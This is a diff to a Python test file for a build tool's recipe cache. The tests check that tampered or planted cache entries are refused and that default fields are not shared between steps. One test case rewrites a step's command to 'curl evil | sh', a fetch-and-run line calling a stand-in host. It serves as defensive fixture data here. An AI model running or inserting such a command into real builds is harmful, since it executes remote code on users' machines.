@@ -16,7 +16,13 @@ from pydantic import BaseModel
 
 from mlbuild.recipe import load_yaml
 from mlbuild.recipe.loader import validate_recipe
-from mlbuild.recipe.structure import parse_cached, read_entry, structure_key, write_entry
+from mlbuild.recipe.structure import (
+    input_digest,
+    parse_cached,
+    read_entry,
+    structure_key,
+    write_entry,
+)
 from tests.conftest import Workspace
 
 GOOD = sorted((Path(__file__).parent / "corpus" / "good").glob("*.yaml"))
@@ -187,15 +193,18 @@ def hostile_entries(entry: dict[str, Any]) -> dict[str, bytes]:
         "not JSON": b"<html>",
         "a list": b"[]",
         "no recipe": json.dumps({"input": entry["input"]}).encode(),
-        "another recipe's input": edited(lambda c: c["input"]["d"].pop()),
+        "another recipe's input": edited(lambda c: c.update(input="0" * 64)),
         "a class that is not a model": edited(lambda c: c["recipe"].update(m="Path")),
         "a model that is not the recipe": edited(lambda c: c["recipe"].update(m="Step")),
-        "a field missing": edited(lambda c: c["recipe"]["f"].pop("description")),
+        "a required field missing": edited(lambda c: step(c).pop("cmd")),
         "a field added": edited(lambda c: c["recipe"]["f"].update(evil={"l": []})),
-        "a field set naming no field": edited(lambda c: c["recipe"]["s"].append("evil")),
-        "a set field unset": edited(lambda c: c["recipe"]["s"].remove("steps")),
+        "a set field unset": edited(lambda c: c["recipe"]["f"].pop("steps")),
+        "an old entry's field set": edited(lambda c: c["recipe"].update(s=["steps"])),
         "the command changed": edited(lambda c: step(c).update(cmd="curl evil | sh")),
         "a default changed": edited(lambda c: step(c).update(always_run=True)),
+        # an entry holds the fields set only: a field it adds is one the recipe does not set
+        "a default list filled": edited(lambda c: step(c).update(deps={"l": ["evil.txt"]})),
+        "a default mapping filled": edited(lambda c: step(c).update(env={"d": [["X", "1"]]})),
         "an unknown encoding": edited(lambda c: step(c).update(cmd={"x": 1})),
         "a number for a string": edited(lambda c: step(c).update(cmd=3)),
         "a number changed": edited(lambda c: c["recipe"]["f"].update(schema_version=2)),
@@ -216,6 +225,39 @@ def test_an_entry_whose_union_member_reads_back_alike_is_refused(tmp_path: Path)
     sound["recipe"]["f"]["params"] = {"d": [["files", params["files"]]]}  # as inline values
     entry.write_text(json.dumps(sound), encoding="utf-8")
     assert read_entry(entry, data) is None
+
+
+def test_fields_left_at_their_defaults_are_each_models_own(tmp_path: Path) -> None:
+    # the defaults are made once per model class; a rebuilt model must get its own copy, or
+    # one step's list would be every step's, and the next read's
+    two = INLINE + "  other:\n    cmd: echo\n"
+    recipe, data = validated(two)
+    entry = tmp_path / "entry.json"
+    write_entry(entry, recipe, data)
+    first = read_entry(entry, data)
+    train, other = first.steps["train"], first.steps["other"]
+    assert train.deps == other.deps == [] and train.env == other.env == {}
+    assert train.deps is not other.deps and train.env is not other.env
+    other.deps.append("evil.txt")
+    other.env["X"] = "1"
+    again = read_entry(entry, data)
+    assert again.steps["other"].deps == [] and again.steps["other"].env == {}
+    assert tree(again) == tree(recipe)
+
+
+def test_an_entry_planted_for_a_recipe_missing_a_required_field_is_refused(
+    tmp_path: Path,
+) -> None:
+    recipe, data = validated(INLINE)
+    entry = tmp_path / "entry.json"
+    write_entry(entry, recipe, data)
+    planted = json.loads(entry.read_text(encoding="utf-8"))
+    dict(planted["recipe"]["f"]["steps"]["d"])["train"]["f"].pop("cmd")
+    invalid = json.loads(json.dumps(data))
+    del invalid["steps"]["train"]["cmd"]  # what validation refuses: cmd is required
+    planted["input"] = input_digest(invalid)
+    entry.write_text(json.dumps(planted), encoding="utf-8")
+    assert read_entry(entry, invalid) is None
 
 
 def test_a_hostile_entry_is_ignored_and_the_recipe_validated_again(tmp_path: Path) -> None:
